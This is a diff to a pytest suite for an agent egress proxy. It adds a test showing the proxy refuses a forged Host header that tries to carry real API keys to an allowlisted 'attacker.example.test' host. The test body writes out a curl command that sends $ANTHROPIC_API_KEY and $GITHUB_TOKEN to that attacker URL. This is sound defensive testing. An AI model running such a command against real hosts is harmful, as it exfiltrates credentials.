@@ -33,6 +33,7 @@ pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]
 ROUTED = ("api.github.com", "github.com", "api.anthropic.com", "api.openai.com")
 CLOSED_HOST = "closed.example.test"
 UNLISTED_HOST = "unlisted.example.test"
+ATTACKER_HOST = "attacker.example.test"  # routed to the recording upstream: whatever reaches it leaked
 SESSION = "px"
 
 
@@ -115,13 +116,14 @@ def world():
     port = upstream.start()
     routes = {host: f"https://127.0.0.1:{port}" for host in ROUTED}
     routes[CLOSED_HOST] = f"https://127.0.0.1:{closed_port()}"
+    routes[ATTACKER_HOST] = f"https://127.0.0.1:{port}"
     home = tmp / "home"
     cli = Cli(home, image=TEST_AGENT_IMAGE)
     (home / "proxy.toml").write_text(
         "[proxy]\n"
         'egress = "allowlist"\n'
         # 127.0.0.1 is allowlisted on purpose: the private-address check must refuse it on its own.
-        f"allowlist = {json.dumps([*ROUTED, CLOSED_HOST, '127.0.0.1'])}\n"
+        f"allowlist = {json.dumps([*ROUTED, CLOSED_HOST, ATTACKER_HOST, '127.0.0.1'])}\n"
         f'upstream_ca_bundle = "{ca_path}"\n'
         'credential_set = ["anthropic_api_key", "openai_api_key"]\n'
         "[routes]\n" + "".join(f'"{h}" = "{u}"\n' for h, u in routes.items())
@@ -289,3 +291,25 @@ def test_audit_names_credentials_and_reasons_never_values(world: World) -> None:
     hits = scan_tree(world.cli.home, world.needles(), exclude=["secrets"])
     assert hits == [], [str(h) for h in hits]
     assert scan_tree(world.worktree, world.needles()) == []
+
+
+@pytest.mark.parametrize("url,host_header", [
+    (f"http://{ATTACKER_HOST}/leak-plain", "api.anthropic.com"),
+    (f"https://{ATTACKER_HOST}/leak-tls", "api.anthropic.com"),
+    (f"http://{ATTACKER_HOST}/leak-github", "github.com"),
+    (f"https://{ATTACKER_HOST}/leak-apigithub", "api.github.com"),
+], ids=["plain", "tunnel", "plain-github", "tunnel-api-github"])
+def test_a_forged_host_header_never_carries_a_real_key_elsewhere(world: World, url, host_header) -> None:
+    """The review's attack, from inside the container: the URL names the attacker's (allowlisted) host,
+    the Host header a model or GitHub host. Routing, policy and injection follow where the proxy really
+    connects: 421, nothing forwarded, audited as blocked under the attacker's host."""
+    world.cli("set-access-mode", SESSION, "read-write")
+    tag = "H" + url.rsplit("/", 1)[1].replace("-", "")
+    path = "/" + url.split("/", 3)[3]
+    reply = world.curl(tag, f"-H 'Host: {host_header}' -H \"x-api-key: $ANTHROPIC_API_KEY\" "
+                            f"-H \"Authorization: Bearer $GITHUB_TOKEN\" {url}")
+    assert reply.status == 421, reply.everything()
+    assert world.seen(path) == []
+    lines = world.cli("audit", SESSION, "--limit", "1000", "--json").json()
+    [line] = [l for l in lines if l["path"] == path]
+    assert (line["host"], line["credential"], line["blocked"]) == (ATTACKER_HOST, None, "misdirected")
